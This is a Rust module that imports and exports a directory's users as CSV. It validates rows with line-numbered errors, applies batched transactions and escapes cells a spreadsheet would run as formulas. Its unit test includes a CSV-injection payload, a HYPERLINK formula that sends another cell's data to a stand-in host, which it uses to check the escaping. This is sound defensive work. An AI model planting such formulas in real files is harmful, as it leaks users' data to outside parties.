//! CSV import and export of a directory's users: a dry run that names
//! every row's problem by its line, then batches of one transaction each;
//! an export whose every cell is safe to open in a spreadsheet.

use super::{BATCH, COLUMNS};
use crate::audit;
use crate::clock::now;
use crate::contact;
use crate::error::{ApiError, ApiResult};
use crate::session::Authenticated;
use crate::state::AppState;
use crate::store::{DirectoryRow, NewUser, UserPatch, UserRow};
use crate::token;
use crate::{lang, text};
use authlevel_core::api::{ImportError, ImportReport, Role};
use authlevel_core::{AuditKind, ErrorCode};
use std::collections::HashMap;

/// The users as CSV, with a header. Every cell is safe to open in a
/// spreadsheet ([`spreadsheet_safe`]).
pub fn to_csv(users: &[UserRow]) -> ApiResult<String> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(COLUMNS).map_err(ApiError::internal)?;
    for u in users {
        w.write_record(
            [
                u.username.as_str(),
                u.display_name.as_str(),
                u.email.as_deref().unwrap_or(""),
                u.phone.as_deref().unwrap_or(""),
                u.role.as_str(),
            ]
            .map(|cell| spreadsheet_safe(cell).into_owned()),
        )
        .map_err(ApiError::internal)?;
    }
    String::from_utf8(w.into_inner().map_err(ApiError::internal)?).map_err(ApiError::internal)
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP "CSV Injection"; ASVS 5.0 V1.2.10).
const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// Whether `cell` is one a spreadsheet would run, or one that looks like an
/// escaped one (`'` marks before a formula's first character), which must
/// be escaped too so that the import gives back exactly what was exported.
fn needs_quote(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A cell as an export writes it: prefixed with `'` when a spreadsheet
/// would read it as a formula (a display name `=HYPERLINK(…)`, a phone
/// number `+31…`), so it shows as text and runs nothing (SECURITY 36).
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A cell as an import reads it: exactly the prefix [`spreadsheet_safe`]
/// adds is taken off, so an export imported again changes nothing.
pub fn from_spreadsheet(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// One valid row of an import. A column the file does not have leaves an
/// existing user's value as it is (`None`); an empty cell clears it
/// (`Some(None)`).
#[derive(Debug, Clone)]
struct Row {
    username: String,
    display_name: Option<String>,
    email: Option<Option<String>>,
    phone: Option<Option<String>>,
    role: Option<Role>,
    /// The existing user it updates.
    existing: Option<String>,
}

/// A field of a row, trimmed; empty as `None`.
fn field(record: &csv::StringRecord, at: Option<usize>) -> Option<&str> {
    at.and_then(|i| record.get(i))
        .map(from_spreadsheet)
        .map(str::trim)
        .filter(|v| !v.is_empty())
}

/// Reads and checks every row; answers the valid rows with their lines, and
/// the problems.
async fn check(
    app: &AppState,
    dir: &DirectoryRow,
    text: &str,
    update: bool,
    actor: Option<&str>,
) -> ApiResult<(Vec<(u32, Row)>, Vec<ImportError>, u32)> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut records = reader.records();
    // A first line that does not name the columns refuses the whole file:
    // nothing is read as a partial success (422 `invalid_csv`).
    let refuse = |why: String| {
        ApiError::with(
            ErrorCode::InvalidCsv,
            format!(
                "{why} {}",
                text::import_header(lang::current(), &COLUMNS.join(","))
            ),
        )
    };
    let header = match records.next() {
        Some(Ok(h)) => h,
        Some(Err(e)) => {
            return Err(refuse(text::import_not_csv(
                lang::current(),
                &e.to_string(),
            )));
        }
        None => return Err(refuse(String::new())),
    };
    let mut at = HashMap::new();
    for (i, name) in header.iter().enumerate() {
        let name = name.trim().trim_start_matches('\u{feff}').to_lowercase();
        if !COLUMNS.contains(&name.as_str()) {
            return Err(refuse(text::import_unknown_column(
                lang::current(),
                &name.chars().take(40).collect::<String>(),
                &COLUMNS.join(", "),
            )));
        }
        at.insert(name, i);
    }
    if !at.contains_key("username") {
        return Err(refuse(text::import_no_username(lang::current())));
    }
    let mut errors = Vec::new();
    let existing = app.store.usernames(&dir.id).await?;
    let allowed = app.config.allowed_countries().unwrap_or_default();
    let mut seen: HashMap<String, u32> = HashMap::new();
    let mut rows = Vec::new();
    let mut count = 0;
    // The reader skips blank lines and counts only the lines it reads, so
    // a record's line is counted here from its byte offset.
    let mut lines = LineCounter::new(text);
    for record in records {
        count += 1;
        let line = lines.at(record_byte(&record));
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                errors.push(ImportError {
                    line,
                    message: text::import_not_csv(lang::current(), &e.to_string()),
                });
                continue;
            }
        };
        if record.iter().all(|f| f.trim().is_empty()) {
            count -= 1;
            continue;
        }
        match check_row(&record, &at, &allowed) {
            Err(message) => errors.push(ImportError { line, message }),
            Ok(mut row) => {
                if let Some(first) = seen.get(&row.username) {
                    errors.push(ImportError {
                        line,
                        message: text::import_duplicate(lang::current(), &row.username, *first),
                    });
                    continue;
                }
                seen.insert(row.username.clone(), line);
                row.existing = existing.get(&row.username).cloned();
                // The administrator's own account changes only through the
                // profile (SECURITY 34).
                if row.existing.is_some() && row.existing.as_deref() == actor && update {
                    errors.push(ImportError {
                        line,
                        message: text::import_own_account(lang::current()),
                    });
                    continue;
                }
                if row.existing.is_some() && !update {
                    errors.push(ImportError {
                        line,
                        message: text::import_exists(lang::current(), &row.username),
                    });
                    continue;
                }
                rows.push((line, row));
            }
        }
    }
    Ok((rows, errors, count))
}

/// The byte offset a record starts at.
fn record_byte(record: &Result<csv::StringRecord, csv::Error>) -> usize {
    let at = match record {
        Ok(r) => r.position().map(csv::Position::byte),
        Err(e) => e.position().map(csv::Position::byte),
    };
    usize::try_from(at.unwrap_or(0)).unwrap_or(usize::MAX)
}

/// Line numbers (1-based) of byte offsets in a text, asked in order.
struct LineCounter<'a> {
    text: &'a [u8],
    byte: usize,
    line: u32,
}

impl<'a> LineCounter<'a> {
    fn new(text: &'a str) -> LineCounter<'a> {
        LineCounter {
            text: text.as_bytes(),
            byte: 0,
            line: 1,
        }
    }

    /// The line of `byte`, at or after the byte asked before.
    fn at(&mut self, byte: usize) -> u32 {
        let mut end = byte.min(self.text.len());
        // A record's offset may be that of the blank lines before it.
        while matches!(self.text.get(end), Some(b'\r' | b'\n')) {
            end += 1;
        }
        if end > self.byte {
            let newlines = self.text[self.byte..end]
                .iter()
                .filter(|b| **b == b'\n')
                .count();
            self.line = self
                .line
                .saturating_add(u32::try_from(newlines).unwrap_or(u32::MAX));
            self.byte = end;
        }
        self.line
    }
}

fn check_row(
    record: &csv::StringRecord,
    at: &HashMap<String, usize>,
    allowed_countries: &[u16],
) -> Result<Row, String> {
    let get = |name: &str| field(record, at.get(name).copied());
    // A column of the file: `None` when the file has none.
    let column = |name: &str| at.contains_key(name).then(|| get(name));
    let username = contact::normalize_username(get("username").unwrap_or(""))?.to_owned();
    let display_name = get("display_name").map(contact::display_name).transpose()?;
    let email = column("email")
        .map(|e| e.map(contact::normalize_email).transpose())
        .transpose()?;
    let phone = column("phone")
        .map(|p| p.map(contact::normalize_phone).transpose())
        .transpose()?;
    if let Some(Some(p)) = &phone {
        check_sms_reachable(p, allowed_countries)?;
    }
    let role = match get("role").map(str::to_lowercase).as_deref() {
        None => None,
        Some("user") => Some(Role::User),
        Some("admin") => Some(Role::Admin),
        Some(other) => {
            return Err(text::import_unknown_role(
                lang::current(),
                &other.chars().take(20).collect::<String>(),
            ));
        }
    };
    Ok(Row {
        username,
        display_name,
        email,
        phone,
        role,
        existing: None,
    })
}

/// How an import goes.
#[derive(Debug, Clone, Copy, Default)]
pub struct ImportMode {
    /// Only check every row and report; change nothing.
    pub dry_run: bool,
    /// Update users that exist (else their rows are refused).
    pub update: bool,
}

/// Refuses a number SMS codes cannot reach: a landline or service number,
/// or one of a country outside `sms_allowed_countries`.
fn check_sms_reachable(e164: &str, allowed_countries: &[u16]) -> Result<(), String> {
    use phonenumber::Type;
    let Ok(number) = phonenumber::parse(None, e164) else {
        return Err(text::import_phone_unreadable(lang::current(), e164));
    };
    if matches!(
        number.number_type(&phonenumber::metadata::DATABASE),
        Type::FixedLine | Type::TollFree | Type::PremiumRate | Type::SharedCost
    ) {
        return Err(text::import_landline(lang::current(), e164));
    }
    if !allowed_countries.is_empty() && !allowed_countries.contains(&number.code().value()) {
        return Err(text::import_country(lang::current(), e164));
    }
    Ok(())
}

/// Imports the CSV `text` into `dir` for the administrator `auth`: every
/// row is checked first; with `dry_run` nothing changes, else the valid
/// rows are applied, `BATCH` to a transaction, `progress` told after each
/// batch (rows done, rows to do). Existing users are updated only with
/// `update`. A row with a problem changes nothing.
pub async fn import(
    app: &AppState,
    dir: &DirectoryRow,
    actor: Option<&Authenticated>,
    ip: Option<&str>,
    text: &str,
    how: ImportMode,
    mut progress: impl FnMut(usize, usize),
) -> ApiResult<ImportReport> {
    let ImportMode { dry_run, update } = how;
    let actor_id = actor.map(|a| a.user.id.as_str());
    let (rows, errors, count) = check(app, dir, text, update, actor_id).await?;
    let updated =
        u32::try_from(rows.iter().filter(|(_, r)| r.existing.is_some()).count()).unwrap_or(0);
    let created = u32::try_from(rows.len()).unwrap_or(0) - updated;
    if !dry_run {
        let t = now();
        let mut done = 0;
        for batch in rows.chunks(BATCH) {
            let mut tx = app.store.begin().await?;
            for (_, r) in batch {
                match &r.existing {
                    Some(id) => {
                        let patch = UserPatch {
                            display_name: r.display_name.clone(),
                            email: r.email.clone(),
                            phone: r.phone.clone(),
                            role: r.role,
                            ..UserPatch::default()
                        };
                        tx.update_user(id, &patch, t).await?;
                    }
                    None => {
                        let new = NewUser {
                            directory_id: dir.id.clone(),
                            display_name: r
                                .display_name
                                .clone()
                                .unwrap_or_else(|| r.username.clone()),
                            username: r.username.clone(),
                            email: r.email.clone().flatten(),
                            phone: r.phone.clone().flatten(),
                            role: r.role.unwrap_or_default(),
                        };
                        tx.insert_user(&token::new_id(), &new, t).await?;
                    }
                }
            }
            tx.commit().await?;
            done += batch.len();
            progress(done, rows.len());
        }
        let mut event = audit::event(AuditKind::UsersImport, true)
            .directory(&dir.id)
            .ip(ip)
            .detail(format!(
                "{created} created, {updated} updated, {} rows refused",
                errors.len()
            ));
        if let Some(a) = actor {
            event = event.actor(&a.user.id);
        }
        event.record(app).await;
    }
    Ok(ImportReport {
        dry_run,
        rows: count,
        created,
        updated,
        errors,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_the_quote_taken_off_again() {
        for (cell, exported) in [
            (
                "=HYPERLINK(\"https://evil.test/?\"&D2,\"update\")",
                "'=HYPERLINK(\"https://evil.test/?\"&D2,\"update\")",
            ),
            ("+31612345678", "'+31612345678"),
            ("-1", "'-1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("\0x", "'\0x"),
            // Looks like a quoted formula: quoted once more.
            ("'=1", "''=1"),
            ("Ann 'Annie' Smith", "Ann 'Annie' Smith"),
            ("'quoted'", "'quoted'"),
            ("ann", "ann"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), exported, "{cell:?}");
            assert_eq!(from_spreadsheet(exported), cell, "{exported:?}");
        }
    }
}
